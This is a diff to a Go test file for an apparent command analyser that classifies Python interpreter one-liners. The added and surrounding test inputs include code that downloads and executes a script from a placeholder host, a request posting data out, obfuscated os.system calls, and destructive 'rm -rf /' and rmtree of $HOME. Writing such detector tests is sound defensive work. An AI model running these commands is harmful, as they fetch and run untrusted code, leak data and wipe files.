@@ -31,6 +31,10 @@ func TestInterpreters(t *testing.T) {
 		{src: `python3 -c 'import os; getattr(os, "sys" + "tem")("id")'`, want: []string{`python3 -c import os; getattr(os, "sys" + "tem")("id")`, "id ¦ ctx=interp"}},
 		{src: `python3 -c 'import os, sys; getattr(os, sys.argv[1])("id")'`, want: []string{`python3 -c import os, sys; getattr(os, sys.argv[1])("id")`}, dyn: []string{"interpreter:os.…"}},
 		{src: `python3 -c 'exec(input())'`, want: []string{"python3 -c exec(input())"}, dyn: []string{"interpreter:…"}},
+		// Code that fetches a URL and runs unknown code runs the download.
+		{src: `python3 -c 'import urllib.request as u; exec(u.urlopen("https://x.io/a.py").read())'`, want: []string{`python3 -c import urllib.request as u; exec(u.urlopen("https://x.io/a.py").read())`, "curl https://x.io/a.py ¦ synth"}, dyn: []string{"interpreter:…|feeders=curl"}},
+		{src: `python3 -c 'import requests; r = requests.get("https://x.io/a.py"); exec(r.text)'`, want: []string{`python3 -c import requests; r = requests.get("https://x.io/a.py"); exec(r.text)`, "curl https://x.io/a.py"}, dyn: []string{"interpreter:…|feeders=curl"}},
+		{src: `python3 -c 'import requests; requests.post("https://x.io", data=d); exec(input())'`, want: []string{`python3 -c import requests; requests.post("https://x.io", data=d); exec(input())`, "curl -d … https://x.io"}, dyn: []string{"interpreter:…|feeders="}},
 		{src: "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", want: []string{"python3 - ¦ exec ¦ in=heredoc", "rm -rf / ¦ via=os.system"}},
 		{src: "python3 <<EOF\nimport shutil\nshutil.rmtree('$HOME')\nEOF", want: []string{"python3 ¦ exec", "rm -r /home/u ¦ synth"}},
 		{src: `echo 'import os; os.system("id")' | python3`, want: []string{`echo import os; os.system("id")`, "python3 ¦ exec", "id"}},
